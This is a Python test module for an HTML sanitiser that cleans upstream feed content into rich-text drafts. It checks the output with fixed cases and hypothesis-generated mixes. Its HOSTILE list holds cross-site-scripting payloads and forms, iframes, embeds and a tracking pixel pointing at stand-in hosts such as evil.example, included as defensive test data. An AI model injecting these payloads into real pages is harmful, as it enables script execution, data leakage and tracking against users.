"""Sanitising upstream HTML into a draft's rich text: nothing executable,
no remote images (tracking pixels included), no styles or attributes but a
link's http(s) href; structure rewritten into the body block's features.
Checked on a real poll and, for any mix of hostile fragments, with
hypothesis."""

from urllib.parse import urlsplit

import lxml.html
from hypothesis import given
from hypothesis import strategies as st

from ingest.sanitise import plain_text, sanitise, shorten
from ingest.tasks import poll_feed
from tests.ingest.fixtures import rss

SECRET = "SECRETPAYLOAD"
HOSTILE = [
    f"<script>alert('{SECRET}')</script>",
    f'<img src="https://tracker.example/p.gif?u={SECRET}" width="1" height="1">',
    f'<img src="x" onerror="alert(\'{SECRET}\')">',
    f'<iframe src="https://evil.example/{SECRET}">{SECRET}</iframe>',
    f"<style>body{{background:url(https://evil.example/{SECRET})}}</style>",
    f'<p style="position:fixed" onclick="steal()">点'
    f'<a href="javascript:{SECRET}">这里</a></p>',
    f'<a href="  JaVaScRiPt:{SECRET}">伪装链接</a>',
    f'<object data="https://evil.example/{SECRET}.swf"></object>',
    f'<embed src="https://evil.example/{SECRET}">',
    f'<form action="https://evil.example/"><input name="{SECRET}"></form>',
    f'<svg onload="alert(1)"><text>{SECRET}</text></svg>',
    f'<a href="data:text/html,{SECRET}">数据链接</a>',
    f"<noscript>{SECRET}</noscript>",
    f'<math><mtext><style><img src=x onerror="{SECRET}"></style></mtext></math>',
]
SAFE = [
    "<p>正文<strong>加粗</strong>和<em>强调</em></p>",
    '<a href="https://kepu.example/a?b=1&c=2">科普链接</a>',
    "<ul><li>一</li><li>二</li></ul>",
    "<h1>大标题</h1><h4>小标题</h4>",
    "<blockquote>引用<br>换行</blockquote>",
    "<div>容器<span>行内</span></div>",
    "<table><tr><td>单元格</td></tr></table>",
]
STORED_TAGS = {"p", "h2", "h3", "b", "i", "ul", "ol", "li", "a", "br"}


def test_hostile_html_leaves_nothing_behind():
    cleaned = sanitise("".join(HOSTILE), "https://upstream.example/a/1")
    assert SECRET not in cleaned.html
    markers = ("<script", "<img", "<iframe", "<style", "<object", "<embed", "<form")
    markers += ("<svg", "style=", "onerror", "onclick", "javascript:", "data:")
    for marker in markers:
        assert marker not in cleaned.html.lower()
    assert cleaned.images_dropped == 2


def test_structure_is_rewritten_into_the_body_blocks_features():
    cleaned = sanitise("".join(SAFE), "https://upstream.example/a/1")
    assert cleaned.html == (
        "<p>正文<b>加粗</b>和<i>强调</i></p>"
        '<p><a href="https://kepu.example/a?b=1&amp;c=2">科普链接</a></p>'
        "<ul><li>一</li><li>二</li></ul>"
        "<h2>大标题</h2><h3>小标题</h3>"
        "<p>引用<br/>换行</p>"
        "<p>容器行内</p>"
        "<p>单元格</p>"
    )


def test_relative_links_are_made_absolute_or_dropped():
    html = '<p><a href="/b/2">相对</a></p>'
    linked = sanitise(html, "https://upstream.example/a/1").html
    assert linked == '<p><a href="https://upstream.example/b/2">相对</a></p>'
    assert sanitise(html, "").html == "<p>相对</p>"


def test_plain_text_decodes_entities_and_keeps_words_apart():
    html = "<p>A &amp; B</p><p>C<br>D</p><script>x()</script>"
    assert plain_text(html) == "A & B C D"


def test_shorten_cuts_with_an_ellipsis_within_the_length():
    assert shorten("一二三", 3) == "一二三"
    assert shorten("一二三四", 3) == "一二…"


fragments = st.lists(
    st.sampled_from(HOSTILE + SAFE)
    | st.text(alphabet="科普文字 abc<>&\"'=/;:", max_size=30),
    max_size=12,
)


@given(fragments)
def test_any_mix_of_fragments_gives_only_stored_tags_and_safe_links(parts):
    # Broken markup may turn a fragment's inside into text (as a browser
    # would); what must hold is that no element or attribute survives but
    # the stored ones, and no link but http(s) or mailto.
    cleaned = sanitise("".join(parts), "https://upstream.example/a/1")
    if not cleaned.html:
        return
    root = lxml.html.fragment_fromstring(cleaned.html, create_parent="div")
    for element in root.iterdescendants():
        assert element.tag in STORED_TAGS
        allowed = {"href"} if element.tag == "a" else set()
        assert set(element.attrib) <= allowed
        if element.tag == "a":
            assert urlsplit(element.get("href")).scheme in ("http", "https", "mailto")


def test_polled_draft_body_is_sanitised(upstream, make_upstream_feed):
    item = {
        "title": "<script>alert(1)</script>洗手<b>七步法</b>",
        "link": "https://upstream.example/a/wash",
        "guid": "wash",
        "content": "<p>搓手心</p>" + "".join(HOSTILE),
    }
    feed = make_upstream_feed(upstream.answer("/rss.xml", rss([item])))

    poll_feed.call(feed.pk)

    entry = feed.entries.select_related("page").get()
    page = entry.page.specific
    assert page.title == "洗手七步法"
    stored = page.latest_revision.content["body"]
    assert SECRET not in str(stored) and "<img" not in str(stored)
    assert page.body[0].value.source.startswith("<p>搓手心</p>")
    assert entry.images_dropped == 2


def test_title_standing_in_for_a_missing_body_is_escaped(upstream, make_upstream_feed):
    # Entities in the title decode to text that looks like markup.
    item = {"title": "&lt;script&gt;alert(1)&lt;/script&gt;", "guid": "bare"}
    feed = make_upstream_feed(upstream.answer("/rss.xml", rss([item])))

    poll_feed.call(feed.pk)

    page = feed.entries.get().page.specific
    assert page.title == "<script>alert(1)</script>"
    expected = "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"
    assert page.body[0].value.source == expected
